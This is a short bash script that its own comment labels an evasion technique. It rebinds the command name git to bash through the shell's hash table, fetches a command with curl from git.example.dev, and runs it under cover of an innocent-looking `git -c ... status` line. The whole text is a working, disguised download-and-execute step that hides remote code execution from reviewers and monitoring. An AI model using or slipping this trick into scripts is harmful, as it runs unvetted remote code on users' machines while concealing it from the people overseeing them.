#!/usr/bin/env bash
# Evasion: run a shell under another name. `hash -p PATH NAME` binds the
# command name git to bash in the shell's command hash table, so the later
# line that reads `git -c "$cfg" status` is really bash -c with a command
# downloaded from the server ("status" becomes $0).
set -e
hash -p "$(command -v bash)" git
cfg=$(curl -fsS https://git.example.dev/hooks/post-sync)
git -c "$cfg" status
